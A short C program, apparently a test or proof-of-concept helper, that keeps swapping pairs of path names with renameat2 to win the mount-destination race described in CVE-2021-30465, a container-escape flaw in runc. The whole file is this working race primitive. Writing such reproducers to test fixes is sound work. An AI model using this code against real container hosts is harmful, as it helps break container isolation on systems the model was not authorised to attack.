/*
 * renamer (A B)...: exchanges two names all the time, until it is killed or two minutes are over:
 * what an image does that wants a mount of its start to end up somewhere else (CVE-2021-30465).
 */
#include <fcntl.h>
#include <sys/syscall.h>
#include <unistd.h>

#define EXCHANGE 2 /* RENAME_EXCHANGE of renameat2(2) */

int main(int argc, char **argv)
{
	if (argc < 3)
		return 2;
	alarm(120);
	for (int i = 1;; i = i + 3 < argc ? i + 2 : 1)
		if (syscall(SYS_renameat2, AT_FDCWD, argv[i], AT_FDCWD, argv[i + 1], EXCHANGE) < 0)
			return 1;
}
